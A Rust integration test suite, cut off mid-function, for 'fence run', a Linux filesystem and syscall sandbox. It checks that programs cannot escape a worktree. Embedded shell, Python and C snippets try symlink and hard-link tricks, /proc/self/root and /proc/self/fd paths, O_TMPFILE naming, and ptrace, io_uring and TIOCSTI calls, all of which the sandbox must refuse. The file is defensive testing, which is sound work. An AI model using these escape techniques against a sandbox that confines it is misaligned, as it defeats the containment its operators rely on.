//! `fence run` integration tests: real programs run under the fence, and every security
//! claim is checked by its effect from outside the sandbox (the outside file unchanged,
//! the listener got nothing), not by the sandboxed program's word. Each test runs twice:
//! as root and as an unprivileged user.

mod support;

use std::ffi::OsStr;
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use support::{PYTHON, World, git, python_ready, stderr, stdout};

/// Whether `program` is missing (it does not start with `--version`); the test is then
/// skipped with `why` printed.
fn missing_tool(test: &str, program: &str, why: &str) -> bool {
    let missing = std::process::Command::new(program)
        .arg("--version")
        .output()
        .is_err();
    if missing {
        support::skip(test, why);
    }
    missing
}

fn assert_unchanged(path: &Path, text: &str) {
    assert_eq!(
        std::fs::read_to_string(path).unwrap(),
        text,
        "{} changed",
        path.display()
    );
}

fn write_by_absolute_path_outside_is_blocked_with_a_reason(w: &World) {
    let target = w.outside.join("new.txt");
    let victim = w.write_outside("victim.txt", "original");
    w.write(
        "s.sh",
        &format!(
            "echo x > {}\necho x >> {}\n",
            target.display(),
            victim.display()
        ),
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert!(!target.exists(), "file created outside the worktree");
    assert_unchanged(&victim, "original");
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "fence: blocked write outside the worktree: {} (rule fence.write-outside)",
            target.display()
        )),
        "no blocked reason on stderr: {err}"
    );
}

fn write_through_dotdot_is_blocked(w: &World) {
    let victim = w.write_outside("victim.txt", "original");
    let rel = format!(
        "../{}/victim.txt",
        w.outside.file_name().unwrap().to_string_lossy()
    );
    w.write("s.sh", &format!("echo x > {rel}\n"));
    w.run(&["/bin/sh", "s.sh"]);
    assert_unchanged(&victim, "original");
}

fn write_through_symlinks_made_inside_is_blocked(w: &World) {
    let victim = w.write_outside("victim.txt", "original");
    w.write(
        "s.sh",
        &format!(
            "ln -s {v} file-link\nln -s {o} dir-link\necho x > file-link\necho x > dir-link/victim.txt\necho x > dir-link/new.txt\n",
            v = victim.display(),
            o = w.outside.display()
        ),
    );
    w.run(&["/bin/sh", "s.sh"]);
    assert_unchanged(&victim, "original");
    assert!(!w.outside.join("new.txt").exists());
}

fn hardlink_to_an_outside_file_is_refused(w: &World) {
    let victim = w.write_outside("victim.txt", "original");
    let out = w.python(&format!(
        "import os\ntry:\n    os.link({v:?}, 'hl')\nexcept OSError as e:\n    print('refused', e.errno)\nelse:\n    open('hl', 'w').write('x')\n",
        v = victim.display().to_string()
    ));
    assert!(
        !w.worktree.join("hl").exists(),
        "hardlink created: {}",
        stdout(&out)
    );
    assert_unchanged(&victim, "original");
    assert_eq!(std::fs::metadata(&victim).unwrap().nlink(), 1);
    // Refused at once with the kernel's EXDEV (on which `git clone` of a local repository
    // and `cp -l` copy instead), never put to a person.
    assert_eq!(stdout(&out), "refused 18\n", "{}", stderr(&out));
    assert!(
        stderr(&out).contains("(rule fence.hardlink-outside)") && !stderr(&out).contains("Denied:"),
        "{}",
        stderr(&out)
    );
}

/// A file outside that shares its inode with a name in the worktree is as the test made
/// it: its contents, mode 0644, and not the times the sandbox tried to set (1).
fn assert_shared_file_unchanged(victim: &Path, said: &str) {
    assert_unchanged(victim, "original\n");
    let meta = std::fs::metadata(victim).unwrap();
    let path = victim.display();
    assert_eq!(meta.mode() & 0o7777, 0o644, "{path} mode changed: {said}");
    assert_ne!(meta.mtime(), 1, "{path} times changed: {said}");
}

/// A file with a hard link outside is written as a private copy also when the write is
/// placed against a kept cwd: the name is looked up in the directory the process is in
/// now, not in one it kept before (`plain/x` is an ordinary file, `linked/x` shares its
/// inode with a file outside).
fn a_hard_link_written_from_a_kept_cwd_is_still_a_private_copy(w: &World) {
    w.mkdir("plain");
    w.mkdir("linked");
    w.write("plain/x", "plain\n");
    let victim = w.write_outside("shared-kept", "original\n");
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::hard_link(&victim, w.worktree.join("linked/x")).unwrap();
    let out = w.python(
        r#"import os
os.chdir('plain')
for i in range(3):
    open('x', 'a').write('p\n')
os.chdir('../linked')
# Another name first, so that the shared one is first written against the kept cwd.
for i in range(2):
    open('y', 'a').write('y\n')
for i in range(3):
    open('x', 'a').write('l\n')
print('done')
"#,
    );
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    assert_shared_file_unchanged(&victim, &stdout(&out));
    let read = |name: &str| std::fs::read_to_string(w.worktree.join(name)).unwrap();
    assert_eq!(read("plain/x"), "plain\np\np\np\n");
    assert_eq!(read("linked/x"), "original\nl\nl\nl\n");
}

/// A file of the worktree that is a hard link to one outside (pnpm's `node_modules` and
/// its store, uv's virtualenvs and its cache, `cp -al`), made before the session: Landlock
/// judges the path, so a write would change the outside file too. Each kind of write goes
/// to a private copy instead, in a folder granted whole and at the worktree's root (where
/// the supervisor carries writes out); a metadata change through a descriptor, which
/// reaches the shared file itself, is refused.
fn a_hardlink_made_before_the_session_is_written_as_a_private_copy(w: &World) {
    w.mkdir("sub");
    let names = [
        "sub/w",
        "sub/a",
        "sub/t",
        "root-w",
        "sub/m",
        "sub/nofollow",
        "sub/fd",
    ];
    let victims: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let victim = w.write_outside(&format!("shared-{i}"), "original\n");
            std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
            std::fs::hard_link(&victim, w.worktree.join(name)).unwrap();
            victim
        })
        .collect();
    let out = w.python(
        r#"import os
open('sub/w', 'w').write('changed\n')
open('sub/a', 'a').write('more\n')
os.truncate('sub/t', 3)
with open('root-w', 'r+') as f:
    f.write('X')
os.chmod('sub/m', 0o600)
os.utime('sub/m', (1, 1))
fd = os.open('sub/nofollow', os.O_WRONLY | os.O_NOFOLLOW)
os.write(fd, b'N')
os.close(fd)
fd = os.open('sub/fd', os.O_RDONLY)
try:
    os.fchmod(fd, 0o600)
except OSError as e:
    print('fchmod refused', e.errno)
"#,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    // From outside: every shared file as it was.
    for victim in &victims {
        assert_shared_file_unchanged(victim, &stdout(&out));
    }
    assert!(
        stdout(&out).contains("fchmod refused 1"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains("fence.hardlink-descriptor"),
        "no reason for the refused fchmod: {}",
        stderr(&out)
    );
    let read = |name: &str| std::fs::read_to_string(w.worktree.join(name)).unwrap();
    assert_eq!(read("sub/w"), "changed\n");
    assert_eq!(read("sub/a"), "original\nmore\n");
    assert_eq!(read("sub/t"), "ori");
    assert_eq!(read("root-w"), "Xriginal\n");
    assert_eq!(read("sub/nofollow"), "Nriginal\n");
    let m = std::fs::metadata(w.worktree.join("sub/m")).unwrap();
    assert_eq!((m.mode() & 0o7777, m.mtime()), (0o600, 1));
    // The written names are files of their own now; the one only read still shares.
    for (name, victim) in names.iter().zip(&victims) {
        let links = std::fs::metadata(w.worktree.join(name)).unwrap().nlink();
        let shared = *name == "sub/fd";
        assert_eq!(links, if shared { 2 } else { 1 }, "{name}");
        assert_eq!(std::fs::metadata(victim).unwrap().nlink(), links, "{name}");
    }
    // No copy left half-made.
    let stray: Vec<_> = std::fs::read_dir(w.worktree.join("sub"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n.to_string_lossy().contains("fence-copy"))
        .collect();
    assert!(stray.is_empty(), "{stray:?}");
}

/// The same shared file reached through a descriptor instead of a name: a reopen of
/// `/dev/fd/N` or `/proc/self/fd/N`, a metadata change through that link or with
/// `AT_EMPTY_PATH`, and `fchmod`/`futimens` once the inside name is gone. Each acts on the
/// open file itself, which a private copy cannot replace: refused, and the file outside
/// stays as it was. A read-only file the caller owns may still have its mode changed (on
/// its private copy).
fn a_shared_file_cannot_be_reached_through_its_descriptor(w: &World) {
    w.mkdir("sub");
    let victims: Vec<_> = (0..5)
        .map(|i| {
            let victim = w.write_outside(&format!("shared-{i}"), "original\n");
            std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
            std::fs::hard_link(&victim, w.worktree.join(format!("sub/f{i}"))).unwrap();
            victim
        })
        .collect();
    std::fs::set_permissions(&victims[4], std::fs::Permissions::from_mode(0o444)).unwrap();
    w.compile_c(
        "emptypath",
        r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    int fd = open(argv[1], O_PATH);
    struct timespec ts[2] = {{1, 0}, {1, 0}};
    printf("utimensat %d\n", utimensat(fd, "", ts, AT_EMPTY_PATH));
    printf("fchmodat2 %ld\n", syscall(452, fd, "", 0777, AT_EMPTY_PATH));
    return 0;
}
"#,
    );
    w.write(
        "s.sh",
        "exec 3<sub/f0\n(echo PWNED >>/dev/fd/3) || echo append refused\n\
         (: >/proc/self/fd/3) || echo truncate refused\n\
         exec 3<&-\n",
    );
    let shell = w.run(&["/bin/sh", "s.sh"]);
    let out = w.python(
        r#"import os
top = os.getcwd()
fd = os.open('sub/f1', os.O_RDONLY)
for name, op in [('chmod', lambda: os.chmod('/proc/self/fd/%d' % fd, 0o777)),
                 ('utime', lambda: os.utime('/dev/fd/%d' % fd, (1, 1)))]:
    try:
        op()
        print(name, 'done')
    except OSError as e:
        print(name, 'refused', e.errno)
# The same link named from a descriptor of /proc/self/fd, and from it as the cwd: the
# kernel prints those with the sandbox's own pid.
d = os.open('/proc/self/fd', os.O_RDONLY | os.O_DIRECTORY)
for name, op in [('dirfd', lambda: os.open(str(fd), os.O_WRONLY | os.O_APPEND, dir_fd=d)),
                 ('cwd', lambda: (os.chdir('/proc/self/fd'), os.open(str(fd), os.O_WRONLY | os.O_APPEND))[1])]:
    try:
        os.write(op(), b'PWNED')
        print(name, 'done')
    except OSError as e:
        print(name, 'refused', e.errno)
os.chdir(top)
fd = os.open('sub/f3', os.O_RDONLY)
os.unlink('sub/f3')
try:
    os.fchmod(fd, 0o777)
    print('fchmod done')
except OSError as e:
    print('fchmod refused', e.errno)
os.chmod('sub/f4', 0o644)
print('own read-only file', oct(os.stat('sub/f4').st_mode & 0o777))
"#,
    );
    let empty = w.run(&["./emptypath", "sub/f2"]);
    let all = format!("{}{}{}", stdout(&shell), stdout(&out), stdout(&empty));
    for victim in &victims[..4] {
        assert_shared_file_unchanged(victim, &all);
    }
    assert_eq!(
        std::fs::metadata(&victims[4]).unwrap().mode() & 0o7777,
        0o444
    );
    for line in [
        "append refused",
        "truncate refused",
        "chmod refused 1",
        "utime refused 1",
        "fchmod refused 1",
        "dirfd refused 13",
        "cwd refused 13",
        "utimensat -1",
        "fchmodat2 -1",
        "own read-only file 0o644",
    ] {
        assert!(all.contains(line), "no {line:?} in {all}");
    }
    assert!(
        stderr(&shell).contains("fence.hardlink-descriptor"),
        "no reason line: {}",
        stderr(&shell)
    );
}

/// An unnamed file (`O_TMPFILE`) given its name with `linkat(/proc/self/fd/N,
/// AT_SYMLINK_FOLLOW)`, the atomic-create idiom: it works in a folder granted whole, at the
/// worktree's root and in `.git` (held folders, where the supervisor makes the file and
/// the link), and the name is judged as any new name: not a protected path, not outside.
fn unnamed_files_are_made_and_named_where_the_fence_allows(w: &World) {
    git(&w.worktree, &["init", "-q"]);
    chown_tree(w, &w.worktree.join(".git"));
    w.mkdir("sub");
    w.compile_c(
        "tmpfile",
        r#"#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    for (int i = 1; i + 1 < argc; i += 2) {
        int fd = open(argv[i], O_TMPFILE | O_WRONLY, 0644);
        if (fd < 0) { printf("%s: open %d\n", argv[i + 1], errno); continue; }
        if (write(fd, "made", 4) != 4) return 2;
        char link[64];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        int ret = linkat(AT_FDCWD, link, AT_FDCWD, argv[i + 1], AT_SYMLINK_FOLLOW);
        printf("%s: %s %d\n", argv[i + 1], ret ? "link" : "ok", ret ? errno : 0);
        close(fd);
    }
    return 0;
}
"#,
    );
    let outside = w.outside.join("made-outside");
    let o = outside.display().to_string();
    let out = w.run(&[
        "./tmpfile",
        "sub",
        "sub/a",
        ".",
        "b",
        ".git",
        ".git/c",
        "sub",
        "d",
        "sub",
        ".envrc",
        "sub",
        ".git/hooks/pre-commit",
        "sub",
        &o,
    ]);
    let said = stdout(&out);
    for name in ["sub/a", "b", ".git/c", "d"] {
        assert_eq!(
            std::fs::read_to_string(w.worktree.join(name))
                .ok()
                .as_deref(),
            Some("made"),
            "{name}: {said}"
        );
    }
    for name in [".envrc", ".git/hooks/pre-commit"] {
        assert!(!w.worktree.join(name).exists(), "{name} made: {said}");
    }
    assert!(!outside.exists(), "named outside: {said}");
}

/// An unnamed file made outside and handed in (here as stdin, read-only) is not the
/// sandbox's to name: `linkat(0, "", AT_EMPTY_PATH)` into the worktree is refused, so it
/// cannot be reopened there for writing.
fn an_unnamed_file_made_outside_cannot_be_named_in_the_worktree(w: &World) {
    w.compile_c(
        "namestdin",
        r#"#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    if (linkat(0, "", AT_FDCWD, "stolen", AT_EMPTY_PATH) != 0) { printf("refused %d\n", errno); return 0; }
    int fd = open("stolen", O_WRONLY | O_TRUNC);
    if (fd >= 0 && write(fd, "PWNED", 5) == 5) printf("written\n");
    return 0;
}
"#,
    );
    let dir = std::ffi::CString::new(w.outside.as_os_str().as_bytes()).unwrap();
    // SAFETY: open of a NUL-terminated path; checked below.
    let fd = unsafe { libc::open(dir.as_ptr(), libc::O_TMPFILE | libc::O_RDWR, 0o644) };
    assert!(fd >= 0, "O_TMPFILE in {}", w.outside.display());
    // SAFETY: a fresh descriptor that we now own.
    let made = unsafe { std::fs::File::from_raw_fd(fd) };
    std::io::Write::write_all(&mut &made, b"original").unwrap();
    if let Some((uid, gid)) = w.ids {
        std::os::unix::fs::fchown(&made, Some(uid), Some(gid)).unwrap();
    }
    let stdin = std::fs::File::open(format!("/proc/self/fd/{}", made.as_raw_fd())).unwrap();
    let out = w
        .fence(&[OsStr::new("--"), OsStr::new("./namestdin")])
        .stdin(Stdio::from(stdin))
        .output()
        .unwrap();
    let said = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        !w.worktree.join("stolen").exists(),
        "named in the worktree: {said}"
    );
    let mut back = String::new();
    std::io::Read::read_to_string(
        &mut std::fs::File::open(format!("/proc/self/fd/{}", made.as_raw_fd())).unwrap(),
        &mut back,
    )
    .unwrap();
    assert_eq!(back, "original", "{said}");
}

fn rename_out_of_and_into_the_worktree_is_refused(w: &World) {
    w.write("inside.txt", "mine");
    let victim = w.write_outside("victim.txt", "original");
    w.python(&format!(
        "import os\nfor a, b in [('inside.txt', {o:?}), ({v:?}, 'stolen.txt')]:\n    try:\n        os.rename(a, b)\n    except OSError:\n        pass\n",
        o = w.outside.join("moved.txt").display().to_string(),
        v = victim.display().to_string()
    ));
    assert!(w.worktree.join("inside.txt").exists());
    assert!(!w.outside.join("moved.txt").exists());
    assert_unchanged(&victim, "original");
    assert!(!w.worktree.join("stolen.txt").exists());
}

fn metadata_and_truncate_outside_are_refused(w: &World) {
    let victim = w.write_outside("victim.txt", "original");
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
    let before = std::fs::metadata(&victim).unwrap();
    let v = victim.display().to_string();
    w.python(&format!(
        r#"import os
v = {v:?}
ops = [
    lambda: os.chmod(v, 0o777),
    lambda: os.chown(v, os.getuid(), os.getgid()),
    lambda: os.utime(v, (1, 1)),
    lambda: os.setxattr(v, "user.fence", b"1"),
    lambda: os.truncate(v, 0),
    lambda: os.unlink(v),
    lambda: os.mkdir(v + ".d"),
]
fd = os.open(v, os.O_RDONLY)
ops += [lambda: os.fchmod(fd, 0o777), lambda: os.utime(fd, (1, 1)), lambda: os.setxattr(fd, "user.fence", b"1")]
for op in ops:
    try:
        op()
    except OSError:
        pass
"#
    ));
    let after = std::fs::metadata(&victim).unwrap();
    assert_eq!(after.mode(), before.mode(), "mode changed");
    assert_eq!(after.mtime(), before.mtime(), "mtime changed");
    assert_eq!(after.len(), before.len(), "size changed");
    assert!(xattr_absent(&victim), "xattr set outside");
    assert!(!Path::new(&format!("{v}.d")).exists());
}

fn xattr_absent(path: &Path) -> bool {
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    let mut buf = [0u8; 16];
    // SAFETY: valid NUL-terminated strings and buffer.
    let n = unsafe {
        libc::getxattr(
            c.as_ptr(),
            c"user.fence".as_ptr(),
            buf.as_mut_ptr() as *mut libc::c_void,
            buf.len(),
        )
    };
    n < 0
}

fn metadata_inside_the_worktree_still_works(w: &World) {
    let f = w.write("tool.sh", "#!/bin/sh\necho ran\n");
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
    w.python("import os\nos.chmod('tool.sh', 0o755)\nos.utime('tool.sh', (1000, 1000))\nfd = os.open('tool.sh', os.O_RDONLY)\nos.fchmod(fd, 0o750)\n");
    let meta = std::fs::metadata(&f).unwrap();
    assert_eq!(meta.mode() & 0o777, 0o750);
    assert_eq!(meta.mtime(), 1000);
}

fn proc_self_root_and_proc_cwd_tricks_are_blocked(w: &World) {
    let victim = w.write_outside("victim.txt", "original");
    let v = victim.display().to_string();
    w.python(&format!(
        "import os\nfor p in ['/proc/self/root' + {v:?}, '/proc/thread-self/root' + {v:?}, '/proc/%d/root%s' % (os.getpid(), {v:?})]:\n    try:\n        open(p, 'w').write('x')\n    except OSError:\n        pass\nos.chdir({o:?})\ntry:\n    open('/proc/self/cwd/victim.txt', 'w').write('x')\nexcept OSError:\n    pass\n",
        o = w.outside.display().to_string()
    ));
    assert_unchanged(&victim, "original");
}

fn o_path_dirfd_outside_then_openat_is_blocked(w: &World) {
    let victim = w.write_outside("victim.txt", "original");
    w.python(&format!(
        "import os\nd = os.open({o:?}, os.O_PATH | os.O_DIRECTORY)\nfor name in ['victim.txt', 'new.txt']:\n    try:\n        fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, dir_fd=d)\n        os.write(fd, b'x')\n    except OSError:\n        pass\n",
        o = w.outside.display().to_string()
    ));
    assert_unchanged(&victim, "original");
    assert!(!w.outside.join("new.txt").exists());
}

fn io_uring_ptrace_and_tiocsti_are_refused(w: &World) {
    // The filter answers EPERM before the kernel would do anything; what can be seen from
    // outside is that the calls never succeed, so the errno is what is checked here.
    let out = w.python(
        r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *args):
    r = libc.syscall(nr, *args)
    return r, ctypes.get_errno()
params = ctypes.create_string_buffer(120)
print("io_uring_setup", *call(425, 4, params))
print("ptrace", *call(101, 0, 0, 0, 0))
print("tiocsti", *call(16, 0, ctypes.c_ulong(0x5412 | (1 << 32)), ctypes.c_char_p(b"x")))
print("unshare", *call(272, 0x10000000))
print("clone3", *call(435, 0, 0))
print("socket_inet", *call(41, 2, 1, 0) if not os.path.exists("/proc/net/dev") else (0, 0))
"#,
    );
    let text = stdout(&out);
    assert!(text.contains("io_uring_setup -1 1\n"), "{text}");
    assert!(text.contains("ptrace -1 1\n"), "{text}");
    assert!(text.contains("tiocsti -1 1\n"), "{text}");
    assert!(text.contains("unshare -1 1\n"), "{text}");
    assert!(text.contains("clone3 -1 38\n"), "{text}");
}

/// A program's directory is looked up once for the session only outside the writable
/// roots (`/bin` -> `/usr/bin`): one in the worktree that the sandbox re-points between two
/// execs leads the second exec where it points now.
fn a_program_directory_repointed_in_the_worktree_is_followed_anew(w: &World) {
    w.write(
        "s.sh",
        "mkdir d1 d2\nprintf '#!/bin/sh\\necho two\\n' > d2/p\nchmod +x d2/p\nln -s d1 link\n\"$PWD/link/p\" 2>/dev/null || echo missing\nrm link\nln -s d2 link\n\"$PWD/link/p\"\n/bin/sh -c 'echo three'\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_eq!(
        stdout(&out),
        "missing\ntwo\nthree\n",
        "stderr: {}",
        stderr(&out)
    );
}

/// Every exec the kernel takes is judged and runs: 100,000 arguments (`rm *.o` of a big
/// build, `find -exec … {} +`) and more than a MiB of them.
fn an_exec_with_as_many_arguments_as_the_kernel_takes_runs(w: &World) {
    let out = w.run(&["/bin/sh", "-c", "/bin/echo $(seq 1 100000) | wc -w"]);
    assert_eq!(stdout(&out).trim(), "100000", "stderr: {}", stderr(&out));
    let out = w.run(&[
        "/bin/sh",
        "-c",
        "a=$(head -c 100000 /dev/zero | tr '\\0' x); /bin/echo $a $a $a $a $a $a $a $a $a $a $a $a | wc -c",
    ]);
    assert_eq!(stdout(&out).trim(), "1200012", "stderr: {}", stderr(&out));
}

/// A name with a trailing slash, or a last name `.` or `..`, must be a directory, and a name
/// on the way too: such calls fail as they do bare, with the kernel's own error and no
/// reason line (`cp f newdir/` with `newdir` missing made a file `newdir` when fence carried
/// the create out, `rmdir d/..` would have removed the folder above).
fn a_trailing_slash_or_a_file_on_the_way_fails_as_bare(w: &World) {
    if !python_ready("a_trailing_slash_or_a_file_on_the_way_fails_as_bare") {
        return;
    }
    w.write("slash.py", SLASH_PY);
    let out = w.run(&[PYTHON, "slash.py"]);
    assert_eq!(
        stdout(&out),
        "open-creat-missing EISDIR\nopen-creat-file EISDIR\nopen-w-file ENOTDIR\n\
         open-w-dir EISDIR\nlink-missing ENOENT\nlink-exists EEXIST\nsymlink-missing ENOENT\n\
         fifo-missing ENOENT\nrename-file ENOTDIR\nrename-file-from-slash ENOTDIR\n\
         unlink-file ENOTDIR\nmkdir ok\nrename-dir ok\nrmdir ok\nunder-a-file ENOTDIR\n\
         link-under-a-file ENOTDIR\nopen-creat-dot ENOENT\nunlink-dot-file ENOTDIR\n\
         mkdir-dot ENOENT\nsymlink-dot ENOENT\nrename-to-dot ENOENT\nrename-to-dir-dot EBUSY\n\
         rmdir-dot EINVAL\nrmdir-dotdot ENOTEMPTY\nunlink-dotdot EISDIR\n\
         through-a-file-and-back ENOTDIR\nutime-file-slash ENOTDIR\nchmod-file-slash ENOTDIR\n\
         chown-file-slash ENOTDIR\nutime-dir-slash ok\nchmod-dir-slash ok\nsymlink-empty ENOENT\n\
         rename-empty ENOENT\nmkdir-empty ENOENT\nopen-creat-empty ENOENT\nopen-creat-long ENAMETOOLONG\n\
         mkdir-long ENAMETOOLONG\nopen-creat-loop ELOOP\n",
        "stderr: {}",
        stderr(&out)
    );
    for made in [
        "o1", "l2", "s1", "f1", "nd2", "nd3", "new", "d2", "s2", "nn", "g",
    ] {
        assert!(
            std::fs::symlink_metadata(w.worktree.join(made)).is_err(),
            "{made} was made: {}",
            stderr(&out)
        );
    }
    assert_unchanged(&w.worktree.join("src.txt"), "x");
    // The metadata calls with a slash changed nothing: not the times, not the mode.
    let src = std::fs::metadata(w.worktree.join("src.txt")).unwrap();
    assert_ne!(src.modified().unwrap(), std::time::UNIX_EPOCH);
    assert_ne!(src.permissions().mode() & 0o777, 0o600);
    assert!(!stderr(&out).contains("fence: blocked"), "{}", stderr(&out));
}

const SLASH_PY: &str = r#"import os, errno
def t(name, f):
    try:
        f(); r = "ok"
    except OSError as e:
        r = errno.errorcode[e.errno]
    print(name, r)
open("src.txt", "w").write("x")
os.mkdir("d")
t("open-creat-missing", lambda: os.close(os.open("o1/", os.O_CREAT | os.O_WRONLY)))
t("open-creat-file", lambda: os.close(os.open("src.txt/", os.O_CREAT | os.O_WRONLY)))
t("open-w-file", lambda: os.close(os.open("src.txt/", os.O_WRONLY)))
t("open-w-dir", lambda: os.close(os.open("d/", os.O_WRONLY)))
t("link-missing", lambda: os.link("src.txt", "l2/"))
t("link-exists", lambda: os.link("src.txt", "d/"))
t("symlink-missing", lambda: os.symlink("x", "s1/"))
t("fifo-missing", lambda: os.mkfifo("f1/"))
t("rename-file", lambda: os.rename("src.txt", "nd2/"))
t("rename-file-from-slash", lambda: os.rename("src.txt/", "nd3"))
t("unlink-file", lambda: os.unlink("src.txt/"))
t("mkdir", lambda: os.mkdir("nd4/"))
t("rename-dir", lambda: os.rename("nd4/", "nd5/"))
t("rmdir", lambda: os.rmdir("nd5/"))
t("under-a-file", lambda: os.close(os.open("src.txt/sub", os.O_CREAT | os.O_WRONLY)))
t("link-under-a-file", lambda: os.link("src.txt/x", "l3"))
t("open-creat-dot", lambda: os.close(os.open("new/.", os.O_CREAT | os.O_WRONLY)))
t("unlink-dot-file", lambda: os.unlink("src.txt/."))
t("mkdir-dot", lambda: os.mkdir("d2/."))
t("symlink-dot", lambda: os.symlink("x", "s2/."))
t("rename-to-dot", lambda: os.rename("src.txt", "nn/."))
t("rename-to-dir-dot", lambda: os.rename("src.txt", "d/."))
t("rmdir-dot", lambda: os.rmdir("d/."))
t("rmdir-dotdot", lambda: os.rmdir("d/.."))
t("unlink-dotdot", lambda: os.unlink("d/.."))
t("through-a-file-and-back", lambda: os.close(os.open("src.txt/../g", os.O_CREAT | os.O_WRONLY)))
t("utime-file-slash", lambda: os.utime("src.txt/", (0, 0)))
t("chmod-file-slash", lambda: os.chmod("src.txt/", 0o600))
t("chown-file-slash", lambda: os.chown("src.txt/", os.getuid(), os.getgid()))
t("utime-dir-slash", lambda: os.utime("d/", (0, 0)))
t("chmod-dir-slash", lambda: os.chmod("d/", 0o755))
t("symlink-empty", lambda: os.symlink("", ""))
t("rename-empty", lambda: os.rename("", "x"))
t("mkdir-empty", lambda: os.mkdir(""))
t("open-creat-empty", lambda: os.close(os.open("", os.O_CREAT | os.O_WRONLY)))
t("open-creat-long", lambda: os.close(os.open("n" * 256, os.O_CREAT | os.O_WRONLY)))
t("mkdir-long", lambda: os.mkdir("m" * 256))
os.symlink("loop", "loop")
t("open-creat-loop", lambda: os.close(os.open("loop/x", os.O_CREAT | os.O_WRONLY)))
"#;

/// An archive of other owners unpacks (`tar xf` of a release tarball): a root session's
/// root keeps no capability to give files away, so it unpacks as any user does.
fn an_archive_of_other_owners_unpacks(w: &World) {
    let src = w.outside.join("tree");
    std::fs::create_dir_all(src.join("d")).unwrap();
    std::fs::write(src.join("d/f.txt"), "packed\n").unwrap();
    let archive = w.outside.join("other-owners.tar");
    let out = std::process::Command::new("tar")
        .args(["--owner=1234", "--group=1234", "-cf"])
        .arg(&archive)
        .arg("-C")
        .arg(&src)
        .arg("d")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    w.own(&archive);
    let out = w.run(&["tar", "xf", archive.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_unchanged(&w.worktree.join("d/f.txt"), "packed\n");
}

fn exit_status_and_signals_pass_through(w: &World) {
    assert_eq!(w.run(&["/bin/sh", "-c", "exit 7"]).status.code(), Some(7));
    w.write("term.sh", "kill -TERM $$\n");
    assert_eq!(w.run(&["/bin/sh", "term.sh"]).status.code(), Some(143));
    assert_eq!(w.run(&["/no/such/program"]).status.code(), Some(127));
    assert_eq!(
        w.run(&["no-such-command-anywhere"]).status.code(),
        Some(127)
    );
    w.write("plain.txt", "not a program");
    assert_eq!(w.run(&["./plain.txt"]).status.code(), Some(126));
    let out = w
        .fence(&["--no-such-flag".as_ref(), "--".as_ref(), "true".as_ref()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    // The command may follow fence's options without `--`; its own options are its own.
    let out = w
        .fence(&["/bin/sh".as_ref(), "-c".as_ref(), "exit 9".as_ref()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(9), "{}", stderr(&out));
}

/// A parent may leave SIGCHLD ignored across exec: fence must still wait for its shim and
/// the shim for the command (the kernel would otherwise reap them itself, and the session
/// would never end). The command's status comes back, in bounded time.
fn an_ignored_sigchld_inherited_from_the_parent_changes_nothing(w: &World) {
    use std::os::unix::process::CommandExt;
    let mut cmd = w.fence(&[
        "--".as_ref(),
        "/bin/sh".as_ref(),
        "-c".as_ref(),
        "exit 3".as_ref(),
    ]);
    // SAFETY: signal() is async-signal-safe, in the child before its exec.
    unsafe {
        cmd.pre_exec(|| {
            libc::signal(libc::SIGCHLD, libc::SIG_IGN);
            Ok(())
        });
    }
    let mut child = cmd.spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("fence did not end within 30 s with SIGCHLD ignored");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(3));
}

fn a_signal_sent_to_fence_reaches_the_command(w: &World) {
    w.write(
        "wait.sh",
        "trap 'echo got-term; exit 3' TERM\necho ready\nwhile :; do sleep 0.05; done\n",
    );
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "wait.sh".as_ref()])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
    std::io::BufRead::read_line(&mut reader, &mut line).unwrap();
    assert_eq!(line, "ready\n");
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let status = child.wait().unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut reader, &mut rest).unwrap();
    assert_eq!(rest, "got-term\n");
    assert_eq!(status.code(), Some(3));
}

fn fence_sigkill_leaves_nothing_running(w: &World) {
    let log = w.worktree.join("ticks");
    w.write(
        "tree.sh",
